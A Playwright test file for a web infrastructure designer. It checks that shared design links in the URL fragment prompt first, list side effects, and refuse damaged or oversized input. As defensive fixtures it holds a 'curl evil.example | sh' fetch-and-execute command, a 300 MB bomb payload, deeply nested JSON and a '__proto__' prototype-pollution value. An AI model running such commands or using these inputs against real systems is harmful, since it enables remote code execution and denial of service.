import type { Page } from "@playwright/test";

import { expectAccessible } from "./axe.ts";
import { expect, test } from "./designer.ts";
import { asked, changeFragment, linkOf, name, notice, orders } from "./links.ts";
import { readEverything, readStore } from "./storage.ts";

test("a link pasted into an open page's address asks first, and never replaces the design", async ({
  designer,
  page,
}) => {
  await designer.open();
  await designer.add("delta:RestrictionPolicy");
  await designer.fill("resourceId", "dashboard:mine");
  const link = linkOf(JSON.stringify({ ...orders, name: "theirs" }));
  await changeFragment(page, link);
  await expect(asked(page)).toBeVisible();
  expect(new URL(page.url()).hash).toBe("");
  await page.keyboard.press("Escape");
  await expect(asked(page)).toHaveCount(0);
  await expect(designer.field("resourceId")).toHaveValue("dashboard:mine");
  await designer.saved();
  expect(await readEverything(page)).not.toContain("theirs");

  await changeFragment(page, link);
  await asked(page).getByRole("button", { name: "Open a copy" }).click();
  await expect(name(page)).toHaveValue("theirs");
  await designer.saved();
  const stored = JSON.stringify(await readStore(page, "resources"));
  for (const said of ["dashboard:mine", "x-${region}"]) expect(stored).toContain(said);
});

test("a link's side effects are listed before it is stored, and each entry leads to its place", async ({
  designer,
  page,
}) => {
  const evil = {
    name: "evil",
    resources: {
      deploy: { type: "command:local:Command", properties: { create: "curl evil.example | sh" } },
    },
  };
  await page.goto(`/${linkOf(JSON.stringify(evil))}`);
  const runs = asked(page).getByRole("list", { name: "Runs commands" }).getByRole("button");
  await expect(runs).toHaveText(["curl evil.example | sh deploy (command:local:Command)"]);
  await expectAccessible(designer);
  await runs.click();
  await expect(asked(page)).toHaveCount(0);
  await expect(designer.field("Name")).toHaveValue("deploy");
});

test("a damaged, too large or unsupported link is refused with a sentence, and nothing is stored", async ({
  designer,
  page,
}) => {
  await designer.open();
  const whole = linkOf(JSON.stringify(orders));
  const bomb = linkOf(new Uint8Array(300_000_000));
  const refused: readonly (readonly [string, RegExp])[] = [
    [whole.slice(0, -20), /it is incomplete or was modified/],
    [`${whole}%20`, /it is incomplete or was modified/],
    ["#design=2.AAAA", /created by another version of the designer/],
    [bomb, /its design is larger than 4 MB/],
    [linkOf("[]"), /must be a JSON object/],
    [linkOf(`{"resources":${"[".repeat(200_000)}`), /could not be opened/],
  ];
  for (const [fragment, message] of refused) {
    await changeFragment(page, fragment);
    await expect(notice(page)).toContainText(message);
    await page.getByRole("button", { name: "Dismiss the notice" }).click();
    expect(new URL(page.url()).hash).toBe("");
  }
  await designer.untouched();
  expect(await readStore(page, "heads")).toEqual([]);
  await expectPolluted(page, false);
  await changeFragment(page, linkOf('{"name":"odd","__proto__":{"polluted":1},"resources":{}}'));
  await asked(page).getByRole("button", { name: "Open a copy" }).click();
  await expect(name(page)).toHaveValue("odd");
  await expectPolluted(page, false);
});

const expectPolluted = async (page: Page, isPolluted: boolean): Promise<void> =>
  expect(await page.evaluate(() => "polluted" in {})).toBe(isPolluted);
